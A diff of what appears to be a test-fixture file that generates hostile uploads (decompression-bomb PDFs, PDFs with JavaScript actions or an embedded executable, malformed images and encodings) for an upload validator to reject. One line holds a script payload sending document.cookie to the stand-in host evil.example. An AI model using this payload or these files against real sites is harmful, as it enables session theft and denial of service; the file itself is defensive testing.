@@ -1,5 +1,6 @@
 import { crc32, deflateRawSync, deflateSync } from 'node:zlib';
 import sharp from 'sharp';
+import { aPdf, pdfPage } from './pdfs.ts';
 import { aPng, pngChunk } from './pictures.ts';
 
 /** An upload that must be rejected; `says` are the acceptable error codes. */
@@ -8,36 +9,6 @@ export type HostileFile = { name: string; type: string; fileName?: string; bytes
 const script = '<script>fetch("//evil.example/"+document.cookie)</script>';
 const unreadable = ['FILE_UNREADABLE'];
 const wrongType = ['FILE_TYPE'];
-
-/** A PDF with these objects and a correct cross-reference table. */
-export function aPdf(objects: string[], { trailer = '', after = '' } = {}): Buffer {
-  const parts = ['%PDF-1.7\n'];
-  const places: number[] = [];
-  for (const [index, object] of objects.entries()) {
-    places.push(Buffer.byteLength(parts.join(''), 'latin1'));
-    parts.push(`${index + 1} 0 obj\n${object}\nendobj\n`);
-  }
-  const start = Buffer.byteLength(parts.join(''), 'latin1');
-  const rows = places.map((place) => `${String(place).padStart(10, '0')} 00000 n \n`).join('');
-  parts.push(`xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${rows}`);
-  parts.push(
-    `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R ${trailer} >>\nstartxref\n${start}\n%%EOF\n${after}`,
-  );
-  return Buffer.from(parts.join(''), 'latin1');
-}
-
-/** The objects of a page with this text; `catalogue` and `page` are added to theirs. */
-export function pdfPage(text: string, { catalogue = '', page = '', more = [] as string[] } = {}): string[] {
-  const content = `BT /F1 24 Tf 72 700 Td (${text}) Tj ET`;
-  return [
-    `<< /Type /Catalog /Pages 2 0 R ${catalogue} >>`,
-    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
-    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> ${page} >>`,
-    `<< /Length ${content.length} >>\nstream\n${content}\nendstream`,
-    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
-    ...more,
-  ];
-}
 
 /** A page with `bytes` zeros as content, compressed. */
 function pdfBomb(bytes: number): Buffer {
@@ -74,23 +45,6 @@ function pngSaying(width: number, height: number): Buffer {
     pngChunk('IEND', Buffer.alloc(0)),
   ]);
 }
-
-const scriptsInPdf: [string, Parameters<typeof pdfPage>[1]][] = [
-  ['a script on opening', { catalogue: '/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>' }],
-  [
-    'a named script',
-    { catalogue: '/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (app.alert\\(1\\)) >>] >> >>' },
-  ],
-  ['a script of the page', { page: '/AA << /O << /S /JavaScript /JS (app.alert\\(1\\)) >> >>' }],
-  ['a script on closing', { catalogue: '/AA << /WC << /S /JavaScript /JS (app.alert\\(1\\)) >> >>' }],
-  [
-    'another file',
-    {
-      catalogue: '/Names << /EmbeddedFiles << /Names [(a.exe) 6 0 R] >> >>',
-      more: ['<< /Type /Filespec /F (a.exe) /EF << /F 7 0 R >> >>', '<< /Length 2 >>\nstream\nMZ\nendstream'],
-    },
-  ],
-];
 
 async function images() {
   const one = (background: string) =>
@@ -155,6 +109,8 @@ export async function hostileFiles(): Promise<HostileFile[]> {
     }
     add(`${type} of noise`, type, Buffer.concat([bytes.subarray(0, 12), Buffer.alloc(500, 7)]), unreadable);
   }
+  for (const [what, before] of foreign)
+    add(`${what} before a PDF`, 'application/pdf', Buffer.concat([before, good[3][1]]), unreadable);
   const kinds: [string, Buffer][] = [
     ['image/gif', given.gif],
     ['image/tiff', given.tiff],
@@ -185,15 +141,12 @@ export async function hostileFiles(): Promise<HostileFile[]> {
   add('an animated WebP', 'image/webp', given.moving, unreadable);
   for (const megabytes of [60, 200, 400])
     add(`a PDF of ${megabytes} MB`, 'application/pdf', pdfBomb(megabytes * 1024 * 1024), unreadable);
-  for (const [what, facts] of scriptsInPdf)
-    add(`a PDF with ${what}`, 'application/pdf', aPdf(pdfPage('Hello', facts)), unreadable);
   add('a PDF without text', 'application/pdf', aPdf(pdfPage('')), unreadable);
   add('a PDF without pages', 'application/pdf', aPdf(['<< /Type /Catalog >>']), unreadable);
   const loop = pdfPage('x');
   loop[1] = '<< /Type /Pages /Kids [2 0 R] /Count 1 >>';
   add('a PDF whose page tree is a loop', 'application/pdf', aPdf(loop), unreadable);
   for (const bytes of [
-    [0xff, 0xfe, 65, 0],
     [0xc0, 0xaf],
     [0xed, 0xa0, 0x80],
     [65, 0, 66],
